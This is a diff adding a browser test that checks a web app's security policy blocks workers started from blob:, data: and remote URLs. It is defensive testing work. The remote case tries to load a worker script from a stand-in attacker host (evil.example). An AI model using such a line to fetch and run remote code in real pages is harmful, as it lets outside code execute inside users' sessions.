@@ -80,3 +80,37 @@ test('typing into a quote-heavy story with the Review tab open updates the revie
   expect(await problems()).toEqual([]);
   expect(app.externalRequests).toEqual([]);
 });
+
+test('the page may start workers only from the app’s own files: blob:, data: and remote workers are refused', async ({ app }) => {
+  const { page } = app;
+  const problems = await watchForProblems(page);
+  await page.reload();
+  await expect(page.getByRole('button', { name: 'New' })).toBeVisible();
+  const outcomes = await page.evaluate(async () => {
+    const attempt = (url: string) =>
+      new Promise<string>((resolve) => {
+        try {
+          const worker = new Worker(url, { type: 'module' });
+          const end = (outcome: string) => {
+            worker.terminate();
+            resolve(outcome);
+          };
+          worker.onmessage = () => end('ran');
+          worker.onerror = () => end('refused');
+          setTimeout(() => end('no answer'), 3_000);
+        } catch (error) {
+          resolve(`refused (${error instanceof Error ? error.name : 'error'})`);
+        }
+      });
+    const script = 'postMessage("ran")';
+    return {
+      blob: await attempt(URL.createObjectURL(new Blob([script], { type: 'text/javascript' }))),
+      data: await attempt(`data:text/javascript,${encodeURIComponent(script)}`),
+      remote: await attempt('https://evil.example/worker.js'),
+    };
+  });
+  expect(outcomes).toEqual({ blob: expect.stringMatching(/^refused/), data: expect.stringMatching(/^refused/), remote: expect.stringMatching(/^refused/) });
+  // blob: is same-origin, so only the policy stops it; the browser reports that as a worker-src violation.
+  expect((await problems()).filter((problem) => problem.startsWith('csp:'))).toEqual(expect.arrayContaining([expect.stringMatching(/^csp: worker-src blob/)]));
+  expect(app.externalRequests).toEqual([]);
+});
